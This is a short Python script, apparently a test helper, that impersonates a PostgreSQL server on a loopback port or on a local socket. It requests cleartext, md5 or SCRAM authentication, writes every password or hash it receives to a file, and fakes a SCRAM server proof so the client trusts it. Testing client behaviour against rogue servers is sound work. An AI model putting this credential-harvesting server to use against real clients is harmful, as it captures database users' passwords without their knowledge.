"""Listens in PostgreSQL's place and takes what it can get: each password is appended to a file.

usage: rogue-postgresql.py FILE METHOD [FOLDER]     stops when its standard input ends

METHOD is what it asks for: cleartext, md5, scram or none. It listens on a free port of the loopback, or, where a folder is
named, on the socket of port 5432 there. It has no TLS, and knows no password of anybody. The first line of its output is
its port.
"""
import os
import socket
import struct
import sys
import threading


def exactly(connection, count):
    data = b""
    while len(data) < count:
        piece = connection.recv(count - len(data))
        if not piece:
            raise EOFError
        data += piece
    return data


def message(kind, body):
    return kind + struct.pack("!i", len(body) + 4) + body


ASKED = {
    "cleartext": struct.pack("!i", 3),
    "md5": struct.pack("!i", 5) + b"salt",
    "scram": struct.pack("!i", 10) + b"SCRAM-SHA-256\0\0",
    "none": None,
}


def serve(connection, file, asked):
    while True:
        (length,) = struct.unpack("!i", exactly(connection, 4))
        (code,) = struct.unpack("!i", exactly(connection, length - 4)[:4])
        if code >> 16 == 3:
            break
        connection.sendall(b"N")  # no TLS, no GSS
    if asked is not None:
        connection.sendall(message(b"R", asked))
        kind = exactly(connection, 1)
        (length,) = struct.unpack("!i", exactly(connection, 4))
        answer = exactly(connection, length - 4)
        with open(file, "ab") as heard:
            heard.write(kind + answer + b"\n")
        if asked == ASKED["scram"]:
            # The client's nonce with one of its own, no salt worth the name, and one round.
            nonce = answer.split(b"r=")[1]
            connection.sendall(
                message(b"R", struct.pack("!i", 11) + b"r=" + nonce + b"rogue,s=c2FsdA==,i=1"))
            exactly(connection, struct.unpack("!xi", exactly(connection, 5))[0] - 4)
            # The proof of a server that does not know the password.
            connection.sendall(message(b"R", struct.pack("!i", 12) + b"v=" + b"A" * 43 + b"="))
    connection.sendall(message(b"R", struct.pack("!i", 0)) + message(b"Z", b"I"))
    # The client takes it for its server: what comes now are statements.
    with open(file, "ab") as heard:
        heard.write(b"statement " + exactly(connection, 1) + b"\n")


def attend(connection, file, asked):
    with connection:
        try:
            serve(connection, file, asked)
        except (EOFError, OSError, IndexError):
            pass


def main():
    file, asked = sys.argv[1], ASKED[sys.argv[2]]
    if len(sys.argv) > 3:
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(sys.argv[3] + "/.s.PGSQL.5432")
        os.chmod(sys.argv[3] + "/.s.PGSQL.5432", 0o777)
        port = 5432
    else:
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        port = listener.getsockname()[1]
    listener.listen()

    def accept():
        while True:
            connection, _ = listener.accept()
            threading.Thread(target=attend, args=(connection, file, asked), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    print(port, flush=True)
    sys.stdin.read()
    os._exit(0)


main()
